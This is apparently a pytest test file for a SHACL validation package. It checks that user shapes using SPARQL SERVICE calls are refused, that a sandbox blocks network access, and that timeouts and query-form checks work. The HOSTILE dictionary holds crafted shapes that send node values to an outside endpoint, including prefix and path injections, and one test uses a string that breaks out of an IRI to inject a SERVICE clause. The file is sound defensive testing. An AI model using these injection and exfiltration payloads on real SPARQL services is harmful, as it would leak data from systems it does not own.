"""The gate for SPARQL text that is not the package's: user shapes, the endpoint form, explain.

Each hostile shape asks an engine to reach a loopback spy (``{url}``) from another
SHACL-SPARQL entry: the spy must see no connection, on every engine installed, and the
command must end with one ``Error:`` line. A control bypasses the gate and shows the
sandboxed child still keeps the spy silent.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from spy import Spy

from csrgraph import explain, run_query, validate
from csrgraph.errors import InputError, QueryTimeout, StoreError, UsageError
from csrgraph.sparql import engine
from csrgraph.validation import gate
from csrgraph.validation.engines import turbo_available

_HEAD = """@prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix ex: <http://example.org/> .
@prefix schema: <https://schema.org/> .
"""
_SERVICE = "SERVICE <{url}> {{ $this ?p ?secret }}"
#: One shape a SHACL-SPARQL entry; each sends the focus node's values to the spy.
HOSTILE = {
    "constraint": 'ex:S sh:targetClass schema:Occupation ; sh:sparql [ sh:select "SELECT $this '
    'WHERE {{ {service} }}" ] .',
    "target": 'ex:S sh:target [ a sh:SPARQLTarget ; sh:select "SELECT ?this WHERE {{ '
    '?this a schema:Occupation . {service} }}" ] ; sh:property [ sh:path ex:p ; sh:maxCount 9 ] .',
    "rule": "ex:S sh:targetClass schema:Occupation ; sh:rule [ a sh:SPARQLRule ; sh:construct "
    '"CONSTRUCT {{ $this ex:q ?secret }} WHERE {{ {service} }}" ] .',
    "component": "ex:C a sh:ConstraintComponent ; sh:parameter [ sh:path ex:flag ] ; "
    'sh:validator [ a sh:SPARQLAskValidator ; sh:ask "ASK {{ {service} }}" ] . '
    "ex:S sh:targetClass schema:Occupation ; ex:flag true .",
    "function": 'ex:f a sh:SPARQLFunction ; sh:returnType schema:Text ; sh:select "SELECT ?r '
    'WHERE {{ {service} }}" . ex:S sh:targetClass schema:Occupation ; '
    "sh:property [ sh:path ex:p ; sh:maxCount 9 ] .",
    "expression": 'ex:g a sh:SPARQLFunction ; sh:returnType schema:Text ; sh:ask "ASK {{ '
    '{service} }}" . ex:S sh:targetClass schema:Occupation ; sh:expression [ ex:g ( sh:this ) ] .',
    "prefix": "ex:S sh:targetClass schema:Occupation ; sh:sparql [ sh:prefixes ex:P ; sh:select "
    '"SELECT $this WHERE {{ $this a schema:Occupation }}" ] . ex:P sh:declare [ sh:prefix "x" ; '
    'sh:namespace "urn:x> {service} <urn:y"^^<http://www.w3.org/2001/XMLSchema#anyURI> ] .',
    "path": "ex:S sh:targetClass schema:Occupation ; sh:property [ sh:path ex:p ; sh:sparql [ "
    'sh:select "SELECT $this WHERE {{ $this $PATHSERVICE <{url}> {{ ?a ?b ?c }} }}" ] ] .',
    "update": "ex:S sh:targetClass schema:Occupation ; sh:rule [ a sh:SPARQLRule ; sh:update "
    '"INSERT DATA {{ ex:a ex:b ex:c }}" ] .',
}
#: Every in-process engine of ``validate`` (Jena runs in its own sandboxed Java process).
ENGINES = ["pyshacl", "turbo", "oxigraph"]


def _shapes(tmp_path: Path, kind: str, url: str) -> Path:
    path = tmp_path / f"{kind}.ttl"
    body = HOSTILE[kind].format(service=_SERVICE.format(url=url), url=url)
    path.write_text(_HEAD + body + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def spy() -> Iterator[Spy]:
    with Spy() as running:
        yield running


def _engine(name: str) -> str:
    if name == "turbo" and not turbo_available():
        pytest.skip("pyshacl-turbo is not installed (pip install 'csrgraph[fast]')")
    return name


def test_every_entry_kind_is_listed() -> None:
    assert len(HOSTILE) == 9


def test_every_in_process_engine_is_listed() -> None:
    from csrgraph.validation.engines import ENGINES as OFFERED

    assert len(ENGINES) == 3
    assert set(ENGINES) == set(OFFERED) - {"auto", "jena"}


@pytest.mark.parametrize("name", ENGINES)
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_shapes_are_refused_and_the_spy_stays_silent(
    spy: Spy, tmp_path: Path, kind: str, name: str
) -> None:
    before = spy.count
    with pytest.raises(InputError, match=r"refused|not a prefix|not an IRI|not one"):
        validate(shapes=_shapes(tmp_path, kind, spy.url), engine=_engine(name))
    assert spy.count == before


def test_the_cli_refuses_with_one_error_line(spy: Spy, cli, tmp_path: Path) -> None:
    before = spy.count
    result = cli("validate", "--shapes", _shapes(tmp_path, "target", spy.url))
    assert result.exit_code == 2
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
    assert "SERVICE is refused" in result.stderr
    assert spy.count == before


def test_the_child_keeps_the_spy_silent_when_the_gate_is_bypassed(
    spy: Spy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Defence in depth: pySHACL fetches SERVICE itself, the sandboxed child cannot connect."""
    monkeypatch.setattr(gate, "check_shapes", lambda shapes, where: 1)
    before = spy.count
    with contextlib.suppress(InputError, StoreError):
        validate(shapes=_shapes(tmp_path, "target", spy.url), engine="pyshacl", timeout=60)
    assert spy.count == before


def test_user_sparql_is_stopped_by_the_timeout(tmp_path: Path) -> None:
    path = tmp_path / "slow.ttl"
    heavy = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . FILTER(?a = ?l && false)"
    path.write_text(
        _HEAD + 'ex:S sh:targetNode ex:x ; sh:sparql [ sh:select "SELECT $this WHERE {'
        f' {heavy} }}" ] .\n',
        encoding="utf-8",
    )
    with pytest.raises(QueryTimeout, match="time limit of 2 s"):
        validate(shapes=path, engine="pyshacl", timeout=2)


@pytest.mark.parametrize("timeout", [0, -1, float("inf"), float("nan")])
def test_a_bad_timeout_is_a_usage_error(timeout: float) -> None:
    with pytest.raises(UsageError, match="positive number of seconds"):
        validate(timeout=timeout)


def test_plain_user_shapes_still_validate(tmp_path: Path) -> None:
    path = tmp_path / "ok.ttl"
    path.write_text(
        _HEAD + 'ex:S sh:targetClass schema:Occupation ; sh:sparql [ sh:select "SELECT $this '
        'WHERE { $this <http://example.org/never> ?x }" ] .\n',
        encoding="utf-8",
    )
    assert validate(shapes=path, engine="pyshacl", timeout=60).conforms


def test_the_endpoint_form_check_never_evaluates(spy: Spy, monkeypatch: pytest.MonkeyPatch) -> None:
    """``query --endpoint`` finds the form from tokens: no engine runs the user's text here."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the query was evaluated in this process")

    monkeypatch.setattr(engine, "evaluate", refuse)
    heavy = "ASK { VALUES ?a { 1 2 3 } VALUES ?b { 1 2 3 } FILTER(?a = ?b) }"
    assert engine.query_form(heavy) == "ASK"
    assert engine.query_form("PREFIX ASK: <urn:x:> SELECT * { ?s ASK:p ?o }") == "SELECT"
    before = spy.count
    with pytest.raises(StoreError):
        run_query(heavy, endpoint=spy.url + "sparql", timeout=10)
    assert spy.count == before + 1  # sent once, as asked, and never evaluated locally


def test_explain_never_pastes_its_target_into_a_query(
    spy: Spy, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[str] = []
    evaluate = engine.evaluate

    def record(store: object, text: str, **options: object) -> object:
        seen.append(text)
        return evaluate(store, text, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(engine, "evaluate", record)
    target = f"<urn:x> }} SERVICE <{spy.url}> {{ ?s ?p ?o }} #"
    before = spy.count
    with pytest.raises(UsageError):
        explain(target)
    assert seen and all(target not in text and "SERVICE" not in text for text in seen)
    assert spy.count == before
